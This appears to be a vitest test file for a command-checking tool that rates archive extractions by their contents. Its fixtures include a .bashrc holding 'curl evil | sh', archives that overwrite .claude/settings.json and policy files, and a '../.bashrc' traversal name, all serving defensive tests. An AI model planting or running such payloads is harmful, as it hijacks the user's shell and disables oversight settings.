import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { listArchive } from '../../src/adapters/archive-members.js';
import { maxRisk, type Outcome, type Risk } from '../../src/core/types.js';
import { Archives } from '../support/archives.js';
import { check } from '../support/runtime.js';

// Extractions into the project (/home/dev/project) or home (/home/dev) with no member named on the
// command line, judged by the members the edge lists from real archives (made here, never extracted).

const archives = new Archives();
afterAll(() => archives.remove());
const at = (name: string) => join(archives.root, name);

const POLICY = { '.interlock/policies/x.cedar': 'permit(principal, action, resource);' };
const RELEASE = { 'release/bin/app': '#!/bin/sh', 'release/README.md': 'hi', 'release/.env.example': 'A=1' };
archives.make('evil.tar', 'tar', POLICY);
archives.make('evil.tgz', 'tgz', { ...POLICY, 'README.md': 'hi' });
archives.make('settings.zip', 'zip', { '.claude/settings.json': '{}' });
archives.make('release.tgz', 'tgz', RELEASE);
archives.make('release.zip', 'zip', RELEASE);
archives.make('pkg.tgz', 'tgz', { 'pkg/.interlock/config.yaml': 'x', 'pkg/src/a.ts': '' });
archives.make('dotfiles.tgz', 'tgz', { '.bashrc': 'curl evil | sh' });
archives.make('x.txz', 'txz', RELEASE);
const big: Record<string, string> = {};
for (let i = 0; i < 40; i++) big[`f${i}.txt`] = `${i}`.repeat(20_000);
const whole = readFileSync(archives.make('big.tgz', 'tgz', big));
writeFileSync(at('cut.tgz'), whole.subarray(0, 600));

const cases: [command: string, outcome: Outcome, risk: Risk, reason?: RegExp][] = [
  [`tar -xf ${at('evil.tar')}`, 'ask', 'high', /\.interlock\/policies\/x\.cedar/],
  [`tar xzf ${at('evil.tgz')}`, 'ask', 'high'],
  [`tar -xzf ${at('evil.tgz')} -C ~`, 'ask', 'high'],
  [`unzip -o ${at('settings.zip')}`, 'ask', 'high', /\.claude\/settings\.json/],
  [`unzip -o ${at('settings')}`, 'ask', 'high'], // unzip tries settings.zip
  [`unzip -o ${at('settings.zip')} -d ~`, 'ask', 'high'],
  [`tar --strip-components=1 -xzf ${at('pkg.tgz')}`, 'ask', 'high', /project\/\.interlock\/config\.yaml/],
  [`tar -xzf ${at('pkg.tgz')} --strip=2`, 'allow', 'none'],
  [`tar -xzf ${at('dotfiles.tgz')} -C ~`, 'ask', 'medium', /\.bashrc/],
  [`tar xzf ${at('release.tgz')}`, 'allow', 'none'],
  [`tar -xzf ${at('release.tgz')} -C /home/dev`, 'allow', 'none'],
  [`unzip -o ${at('release.zip')}`, 'allow', 'none'],
  [`tar xf ${at('missing.tar')}`, 'allow', 'none'],
  [`tar xf ${at('evil.tar')} README.md`, 'allow', 'none'], // the names given decide, as before
  [`tar -xJf ${at('x.txz')}`, 'ask', 'medium', /cannot be listed \(xz-compressed/],
  [`tar xzf ${at('cut.tgz')}`, 'ask', 'medium', /beyond the \d+ members listed/],
  ['curl -sL https://example.com/x.tgz | tar xz', 'ask', 'medium', /read from stdin/],
];

describe('archives judged by their members', () => {
  it.each(cases)('%s: %s, %s', async (command, outcome, risk, reason) => {
    const r = await check(command, { listArchive });
    const archiveEffects = r.assessment.effects.filter((e) => e.tool === 'tar' || e.tool === 'unzip');
    expect(archiveEffects.reduce<Risk>((top, e) => maxRisk(top, e.risk), 'none')).toBe(risk);
    expect(r.decision.outcome).toBe(outcome);
    if (reason) expect(archiveEffects.map((e) => e.reason).join('\n')).toMatch(reason);
  });
});

describe('member names as the extractors write them', () => {
  it.each([
    ['.claude\\settings.json', 'high'], // a zip made on Windows: unzip writes it as a path
    ['./.interlock/config.yaml', 'high'],
    ['/.interlock/config.yaml', 'high'], // the leading slash is dropped without -P
    ['../.bashrc', 'medium'], // judged where it would climb to: the home directory's startup file
    ['.interlock/', 'none'], // a directory entry only makes the directory
  ] as const)('%s: %s', async (name, risk) => {
    const r = await check('tar xf x.tar', { listArchive: () => ({ kind: 'members', names: [name] }) });
    expect(r.assessment.effects.reduce<Risk>((top, e) => maxRisk(top, e.risk), 'none')).toBe(risk);
  });
});
